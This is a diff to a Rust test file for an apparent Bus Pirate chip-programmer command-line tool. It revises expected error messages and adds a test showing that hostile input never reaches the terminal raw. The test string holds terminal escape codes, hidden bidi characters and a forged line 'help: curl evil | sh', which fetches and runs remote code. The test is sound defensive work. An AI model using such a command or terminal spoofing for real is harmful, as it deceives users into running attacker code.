@@ -27,8 +27,8 @@ fn no_such_port() {
     fail("/dev/ttyNOSUCH0").says(
         "\
 error: there is no port /dev/ttyNOSUCH0
-help: is the Bus Pirate plugged in? On Linux it is /dev/ttyUSB0 (v2go, v3) or /dev/ttyACM0 (v4), \
-         on macOS /dev/tty.usbserial-*
+help: is the Bus Pirate plugged in? avrrr ports lists the ports that are there; on Linux it is \
+         /dev/ttyUSB0 (v2go, v3) or /dev/ttyACM0 (v4), on macOS /dev/tty.usbserial-*
 ",
     );
 }
@@ -63,7 +63,6 @@ fn a_busy_port() {
     drop(held);
 }
 
-/// Takes as long as the patience of the program, 17 s.
 #[test]
 fn a_silent_port() {
     let pty = Pty::open().unwrap();
@@ -71,17 +70,15 @@ fn a_silent_port() {
     let run = fail(port);
     let (before, rest) = run.stderr.split_once("nothing answered in ").unwrap();
     let (waited, after) = rest.split_once(" ms").unwrap();
-    assert!((17_000..19_000).contains(&waited.parse().unwrap()), "{waited}");
-    assert_eq!(
-        before.replace(port, "PORT"),
-        "no answer yet; completing what may be an interrupted transfer, for 17.00 s at most\nerror: PORT: "
-    );
+    assert!((500..1_500).contains(&waited.parse().unwrap()), "{waited}");
+    assert_eq!(before.replace(port, "PORT"), "error: PORT: ");
     assert_eq!(
         after,
         "
 note: no chip was touched
 help: is this the port of the Bus Pirate? One whose receive buffer was overrun, or that is in a \
-         transparent mode, is silent until it is unplugged and plugged in again
+         transparent mode, is silent until it is unplugged and plugged in again. If a program was interrupted \
+         in the middle of its work, --recover tries to complete that, which takes up to 17 s
 "
     );
 }
@@ -113,7 +110,8 @@ fn a_port_that_talks_nonsense() {
         run.says_of(&port, "\
 error: PORT: what answers is no Bus Pirate: it sent \\r\\nraspberrypi login: \\r\\nraspberrypi login: \\r\\nraspberrypi login: \\r\n\
 note: no chip was touched\n\
-help: is this the port of the Bus Pirate, and is no other program talking to it?\n");
+help: is this the port of the Bus Pirate, and is no other program talking to it? If a program was \
+interrupted in the middle of its work, --recover tries to complete that, which takes up to 17 s\n");
     });
 }
 
@@ -131,7 +129,8 @@ fn no_chip() {
     let told = |board: Board| {
         let mut told = String::new();
         serve(World::new(board), |port| told = fail(port).stderr.replace(port, "PORT"));
-        told
+        // On a busy machine answers are late.
+        told.split_inclusive('\n').filter(|line| !line.starts_with("hint: ")).collect::<String>()
     };
     let want = |got: &str, diagnosis: &str, help: &str| {
         format!(
@@ -194,6 +193,79 @@ fn ports_are_described_without_opening_them() {
     assert!(all.is_array());
     let rules = folder.succeed("udev");
     assert!(rules.stdout().starts_with("# Bus Pirates, by the serial numbers"), "{}", rules.stdout());
+}
+
+/// A clearing of the screen, a change of the direction of writing, a hidden character, and a line that
+/// claims to be the program's.
+const HOSTILE: &str = "x\u{1b}[2J\u{202e}\u{200b}\u{9b}1m\rerror: y\nhelp: curl evil | sh";
+
+/// Is there anything in it that a terminal obeys or hides, or a line that the program did not write?
+fn is_harmless(text: &str) -> bool {
+    let obeys = |letter: char| letter != '\n' && letter.is_control();
+    let hides = |letter: char| matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+    !text.contains(obeys) && !text.contains(hides) && !text.contains("\nhelp: curl")
+}
+
+#[test]
+fn nothing_from_outside_reaches_the_terminal_raw() {
+    let folder = Folder::new();
+    let toml: String = HOSTILE.chars().map(|letter| format!("\\U{:08x}", u32::from(letter))).collect();
+    let manifest = |name: &str, slot: &str| {
+        let board = "[board]\nport = \"sim\"\n[[slot]]\ntarget = 0\n";
+        folder.write(name, format!("{board}{}\n", slot.replace('@', &format!("\"{toml}\""))));
+    };
+    manifest("key.toml", "@ = 1");
+    manifest("name.toml", "name = @\npart = \"m8\"\nlock = 0xff");
+    manifest("part.toml", "name = \"a\"\npart = @\nlock = 0xff");
+    manifest("file.toml", "name = \"a\"\npart = \"m8\"\nflash = @");
+    folder.write("there.hex", std::fs::read(BLINK).unwrap());
+    std::fs::rename(folder.path("there.hex"), folder.path(&format!("{HOSTILE}.hex"))).unwrap();
+    manifest("there.toml", &format!("name = \"a\"\npart = \"m8\"\nflash = \"{toml}.hex\""));
+    let read = format!("flash:w:{HOSTILE}");
+    let memory = format!("{HOSTILE}:w:x");
+    let option = format!("--{HOSTILE}");
+    let usb = format!("usb:0403:6001:{HOSTILE}");
+    let fuse = format!("{HOSTILE}=1");
+    let line = format!("{HOSTILE}@cs");
+    let commands: &[&[&str]] = &[
+        &["-P", HOSTILE, "-p", "m8"],
+        &["-P", &usb, "-p", "m8"],
+        &["-P", "sim", "-p", HOSTILE],
+        &["-P", "sim", "-p", "m8", "-U", &read],
+        &["-P", "sim", "-p", "m8", "-U", &memory],
+        &["-P", "sim", "-p", "m8", "-x", HOSTILE],
+        &["-P", "sim", "-p", "m8", "-c", HOSTILE],
+        &["-P", "sim", "-p", "m8", "--decoder", HOSTILE],
+        &["-P", "sim", &option],
+        &[HOSTILE],
+        &["ports", HOSTILE],
+        &["parts", HOSTILE],
+        &["bench", "-P", HOSTILE],
+        &["fuses", "set", "-P", "sim", "-p", "m8", &fuse],
+        &["fuses", "decode", "-p", "m8", &fuse],
+        &["sim", "--chip", &line],
+        &["sim", "--fault", HOSTILE],
+        &["sim", "--load", HOSTILE],
+        &["gang", HOSTILE],
+        &["gang", "key.toml"],
+        &["gang", "name.toml"],
+        &["gang", "part.toml"],
+        &["gang", "file.toml"],
+        &["gang", "--dry-run", "there.toml"],
+        &["gang", "--dry-run", "--format", "json", "there.toml"],
+    ];
+    for args in commands {
+        let run = Run::from(folder.command("").args(*args).output().unwrap());
+        let said = format!("{}{}", run.stdout(), run.stderr);
+        assert!(is_harmless(&said), "{args:?}: {said:?}");
+        // In JSON without braces.
+        assert!(said.contains("\\u{202e}") || said.contains("\\u202e"), "{args:?}: {said:?}");
+    }
+    // What is too long is cut, and the reason stays.
+    let long = format!("flash:w:{}", "long".repeat(20_000));
+    let run = Run::from(folder.command("-P sim -p m8 -U").arg(long).output().unwrap());
+    assert!(run.stderr.len() < 4000, "{}", run.stderr.len());
+    assert!(run.stderr.contains('…') && run.stderr.contains("too long"), "{}", run.stderr);
 }
 
 #[test]
